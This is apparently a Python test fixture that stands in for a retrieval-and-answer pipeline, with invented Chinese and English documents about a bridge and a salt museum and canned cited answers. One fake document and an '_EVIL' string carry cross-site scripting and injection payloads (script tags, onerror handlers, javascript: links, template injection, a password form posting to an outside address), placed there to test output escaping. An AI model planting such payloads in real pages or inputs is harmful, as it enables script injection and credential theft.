"""A stand-in for the pipeline: invented documents, and an answer to each of a few questions.

Every quote is cut from its document, so that the answers are valid as the real ones are.
"""

from __future__ import annotations

import time
from dataclasses import replace
from datetime import date

from rag.errors import QuestionError
from rag.types import (
    Answer,
    Citation,
    Conflict,
    Document,
    GlossedWord,
    Hit,
    Language,
    LegScore,
    Passage,
    Quote,
    Statement,
)

WHEN_EN = "When did the Linhe Bridge open?"
WHEN_ZH = "临河大桥是什么时候通车的？"
CONFLICT = "How many visitors does the Salt Museum expect a year?"
HOSTILE = "What does the notice on the door say?"
REFUSED_EN = "Who will win the next election?"
REFUSED_ZH = "明年的票价是多少？"
BROKEN = "What makes this fail?"
SLOW = "How long is a tide?"
FOLLOW_UP = "And how long is it?"  # refused, unless it follows an answer
UNDERSTOOD = "How long is the Linhe Bridge?"
MAX_CHARS = 500
SECRET = "/srv/private/keys.txt"  # noqa: S105 - what a failure's text must not give away

BRIDGE_ZH = Document(
    id="news/bridge.txt",
    title="临河大桥正式通车",
    text=(
        "经过四年建设，临河大桥终于迎来收尾。2021年5月18日上午，临河大桥正式通车。\n"
        "大桥全长3.2公里，双向六车道，设计时速80公里。通车首日，约4.6万人步行过桥。"
    ),
    source="临河日报",
    language="zh",
    published=date(2021, 5, 19),
)
BRIDGE_EN = Document(
    id="guide/bridges.md",
    title="A walker’s guide to the bridges of the delta",
    text=(
        "The Linhe Bridge was opened to traffic on May 18, 2021, a year later than planned.\n\n"
        "It is 3.2 kilometers long. Walkers use the eastern side, which faces the old ferry "
        "landing; the western side is closed in high winds."
    ),
    source="https://example.org/guide/bridges",
    language="en",
    published=date(2022, 9, 1),
)
MUSEUM_ZH = Document(
    id="news/museum.txt",
    title="盐业博物馆新馆开放",
    text="盐业博物馆新馆于去年冬天开放。馆方预计，每年将接待120万名观众。馆内设有三个常设展厅。",
    source="临河日报",
    language="zh",
    published=date(2023, 12, 3),
)
MUSEUM_EN = Document(
    id="reports/salt.pdf",
    title="Salt Museum: annual report",
    text="Halls two and three remain closed. We now expect 900,000 visitors a year. Entry is free.",
    source="reports/salt.pdf",
    language="en",
)
DOOR = Document(
    id='evil/<img src=x onerror="window.pwned=1">.txt',
    title="<script>window.pwned=1</script> ![t](http://203.0.113.7/t.png) \u202egnp.exe",
    text=(
        "Before ![x](http://203.0.113.7/x.png) <img src=http://203.0.113.7/y.png "
        'onerror="window.pwned=1">\n\n'
        "    The notice says </mark></blockquote><script>window.pwned=1</script> ${window.pwned=1} "
        "{{constructor.constructor('window.pwned=1')()}} $$\\includegraphics{http://203.0.113.7/z}"
        "$$ `x` [12] & \u202edesrever\u2066 &amp; \ud800.\n"
        "<form action=http://203.0.113.7><input type=password></form> <style>*{display:none}"
        '</style> <a id="t1-c1" href="javascript:window.pwned=1">go</a> [r]: http://203.0.113.7/r'
    ),
    source="javascript:window.pwned=1",
    language="en",
    published=date(2020, 1, 2),
)
_DOCUMENTS = (BRIDGE_ZH, BRIDGE_EN, MUSEUM_ZH, MUSEUM_EN)


def fake_ask(question: str, previous: Answer | None = None) -> Answer:
    """Answer the questions above; refuse any other, as the pipeline does."""
    if not question.strip():
        raise QuestionError("the question is empty. Type a question about the documents")
    if len(question) > MAX_CHARS:
        raise QuestionError(f"the question has {len(question)} characters, at most {MAX_CHARS} fit")
    if question == BROKEN:
        raise RuntimeError(f"cannot open {SECRET}")
    if question == SLOW:
        time.sleep(2)
    if question == FOLLOW_UP and previous is not None and previous.found:
        return _FOLLOWED
    answer = _ANSWERS.get(question)
    return make_refusal(question) if answer is None else answer


def make_quote(document: Document, text: str) -> Quote:
    start = document.text.index(text)
    return Quote(document.id, start, start + len(text), text)


def make_passage(document: Document, *, n: int = 0) -> Passage:
    """The whole document as one passage."""
    return Passage(f"{document.id}#{n}", document.id, document.text, 0, len(document.text))


def make_citation(number: int, document: Document, text: str) -> Citation:
    return Citation(
        number,
        make_quote(document, text),
        document.title,
        document.source,
        document.language,
        document.published,
        make_passage(document),
    )


def gloss_citation(citation: Citation, *glosses: tuple[str, str]) -> Citation:
    """The citation with (word, gloss) pairs; each word is the first of its kind in the quote."""
    text = citation.quote.text
    words = [
        GlossedWord(text.index(word), text.index(word) + len(word), gloss)
        for word, gloss in glosses
    ]
    return replace(citation, gloss=tuple(words))


def make_answer(
    question: str, language: Language, *said: tuple[str, tuple[tuple[Document, str], ...]]
) -> Answer:
    """An answer whose statements each rest on (document, quoted text) pairs, all different."""
    statements: list[Statement] = []
    citations: list[Citation] = []
    for text, proofs in said:
        quotes = tuple(make_quote(*proof) for proof in proofs)
        statements.append(Statement(text, quotes))
        first = len(citations) + 1
        citations += [make_citation(n, *proof) for n, proof in enumerate(proofs, start=first)]
    conflicts = (Conflict(tuple(statements)),) if question == CONFLICT else ()
    return Answer(
        question,
        language,
        tuple(statements),
        tuple(citations),
        make_hits(),
        found=True,
        conflicts=conflicts,
        seconds=0.12,
    )


def make_refusal(question: str) -> Answer:
    chinese = any("一" <= c <= "鿿" for c in question)
    refusal = (
        "这些文档没有回答这个问题。" if chinese else "The documents do not answer this question."
    )
    language: Language = "zh" if chinese else "en"
    return Answer(question, language, (), (), make_hits(), found=False, refusal=refusal)


def make_hits() -> tuple[Hit, ...]:
    """One hit a document, best first; the legs disagree, and one misses."""
    return tuple(
        Hit(
            make_passage(document),
            rank,
            1.0 / rank,
            document.language,
            dense=LegScore(5 - rank, 0.5),
            lexical=LegScore(rank, 7.0) if document.language == "en" else None,
            gloss=LegScore(rank, 3.0),
        )
        for rank, document in enumerate(_DOCUMENTS, start=1)
    )


_OPENED_ZH = "2021年5月18日上午，临河大桥正式通车。"
_OPENED_EN = "The Linhe Bridge was opened to traffic on May 18, 2021, a year later than planned."
_LONG_ZH = "大桥全长3.2公里，双向六车道，设计时速80公里。"
_NOTICE = DOOR.text[DOOR.text.index("    The notice") : DOOR.text.index("\n<form")]
_EVIL = '</span><img src=x onerror="window.pwned=1"> ![x](http://203.0.113.7/g.png) ${1} {{1}}'
_OPENED = make_answer(
    WHEN_EN,
    "en",
    ("May 18, 2021", ((BRIDGE_ZH, _OPENED_ZH), (BRIDGE_EN, _OPENED_EN))),
    ("It is 3.2 kilometers long.", ((BRIDGE_EN, "It is 3.2 kilometers long."),)),
)
_LONG_ANSWER = make_answer(FOLLOW_UP, "en", ("3.2 km", ((BRIDGE_ZH, _LONG_ZH),)))
_FOLLOWED = replace(
    _LONG_ANSWER,
    rewritten=UNDERSTOOD,
    citations=(
        gloss_citation(
            _LONG_ANSWER.citations[0],
            *(("大桥", "bridge"), ("全长", "total length"), ("3.2公里", "3.2 km")),
        ),
    ),
)
_HOSTILE = make_answer(
    HOSTILE, "en", ("![x](http://203.0.113.7/s.png) <b>$$1$$</b> [9]", ((DOOR, _NOTICE),))
)
_ANSWERS = {
    WHEN_EN: replace(
        _OPENED,
        citations=(
            gloss_citation(
                _OPENED.citations[0],
                *(("2021年5月18日", "May 18, 2021"), ("上午", "morning"), ("临河", "Linhe")),
                *(("大桥", "bridge"), ("正式", "official"), ("通车", "open to traffic")),
            ),
            *_OPENED.citations[1:],
        ),
    ),
    WHEN_ZH: make_answer(
        WHEN_ZH, "zh", ("2021年5月18日", ((BRIDGE_ZH, _OPENED_ZH), (BRIDGE_EN, _OPENED_EN)))
    ),
    CONFLICT: make_answer(
        CONFLICT,
        "en",
        ("1.2 million", ((MUSEUM_ZH, "馆方预计，每年将接待120万名观众。"),)),
        ("900,000", ((MUSEUM_EN, "We now expect 900,000 visitors a year."),)),
    ),
    HOSTILE: replace(
        _HOSTILE,
        citations=(gloss_citation(_HOSTILE.citations[0], ("</mark></blockquote><script>", _EVIL)),),
        rewritten=_EVIL,
        model=_EVIL,
        note=_EVIL,
        dropped=2,
    ),
}
EXAMPLES = (WHEN_EN, WHEN_ZH, CONFLICT)
